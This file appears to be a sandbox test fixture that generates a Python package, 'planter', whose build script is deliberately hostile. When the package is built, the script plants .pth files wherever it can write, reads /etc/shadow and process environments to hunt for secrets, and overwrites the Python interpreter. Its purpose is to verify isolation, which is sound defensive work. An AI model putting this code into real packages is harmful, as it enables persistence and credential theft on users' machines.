import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from './temp-dir.ts';

/** What the agent must keep from builds: it is in a variable and a file of the agent. */
export const SECRET = 'swordfish';

/**
 * The build script of a package: plants a .pth wherever it can write, puts a script where the environment has its interpreter, and
 * keeps what it has found out for later. The script tells which filter holds for it (see `Seccomp` in proc(5)), and becomes the
 * interpreter.
 */
const BACKEND = `import glob, json, os, sys, zipfile
PTH = "import sys; sys.planted = True\\n"
PYTHON = "/environment/bin/python"
INTERPRETER = """#!{real} -IS
import os, sys
filtered = next(line.split()[1] for line in open("/proc/self/status") if line.startswith("Seccomp:"))
os.environ.setdefault("FILTERED", filtered)
os.execv("{real}", ["/environment/bin/python", *sys.argv[1:]])
"""

def build_wheel(directory, config_settings=None, metadata_directory=None):
    planted, seen = [], []
    places = [*sys.path, *glob.glob("/environment/lib/python*/site-packages"), *glob.glob("/usr/lib/python3*/dist-packages"),
              *glob.glob("/usr/local/lib/python3*/dist-packages"), *glob.glob("/cache/conda/pkgs/*/lib/python*/site-packages"),
              *glob.glob("/cache/conda/pkgs/*/site-packages"), *glob.glob("/opt/harrier/*"), "/cache", "/cache/uv", "/opt/harrier",
              PLACE]
    for place in places:
        try:
            with open(os.path.join(place, "planted.pth"), "w") as file:
                file.write(PTH)
            planted.append(place)
        except OSError:
            pass
    for path in [KEPT, "/etc/shadow", "/var/lib/harrier", *glob.glob("/proc/[0-9]*/environ")]:
        try:
            text = open(path, "rb").read().decode(errors="replace") if os.path.isfile(path) else str(os.listdir(path))
        except OSError:
            continue
        if "${SECRET}" in text or not path.startswith("/proc"):
            seen.append(path)
    real = os.path.realpath(PYTHON)
    os.unlink(PYTHON)
    with open(PYTHON, "w") as file:
        file.write(INTERPRETER.format(real=real))
    os.chmod(PYTHON, 0o755)
    report = {"planted": planted, "seen": seen, "secrets": [name for name, value in os.environ.items() if "${SECRET}" in value]}
    name = "planter-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("planter.py", "REPORT = " + repr(report))
        wheel.writestr("planter.pth", PTH)
        wheel.writestr("planter-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: planter\\nVersion: 1.0\\n")
        wheel.writestr("planter-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("planter-1.0.dist-info/RECORD", "")
    return name
`;

/** What code finds where `planter` may be installed: `{"planted": …, "report": …, "filtered": …}`. */
export const FIND_PLANTED = `import os, sys
def handler(input):
    try:
        from planter import REPORT
    except ImportError:
        REPORT = None
    return {"planted": hasattr(sys, "planted"), "report": REPORT, "filtered": os.environ.get("FILTERED")}
`;

/** What the build script of `planter` has found out. */
export interface PlanterReport {
  /** Directories that it could write to. */
  planted: string[];
  /** Files of others that it could read. */
  seen: string[];
  /** Variables that had the secret. */
  secrets: string[];
}

/**
 * Makes the source distribution of `planter`, whose build script is hostile.
 * @param kept a file that it looks for
 * @param place where the directory of its distribution is in its sandbox
 * @returns the distribution, in a directory of its own that everybody may read
 */
export function makePlanter(kept: string, place: string): string {
  const [work, out] = [tempDir(), tempDir()];
  const tree = join(work, 'planter-1.0');
  mkdirSync(tree);
  writeFileSync(join(tree, 'PKG-INFO'), 'Metadata-Version: 2.1\nName: planter\nVersion: 1.0\n');
  writeFileSync(join(tree, 'backend.py'), `KEPT, PLACE = ${JSON.stringify([kept, place])}\n${BACKEND}`);
  writeFileSync(
    join(tree, 'pyproject.toml'),
    '[project]\nname = "planter"\nversion = "1.0"\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
  );
  const file = join(out, 'planter-1.0.tar.gz');
  execFileSync('tar', ['-czf', file, '-C', work, 'planter-1.0']);
  execFileSync('chmod', ['-R', 'a+rX', out]);
  return file;
}
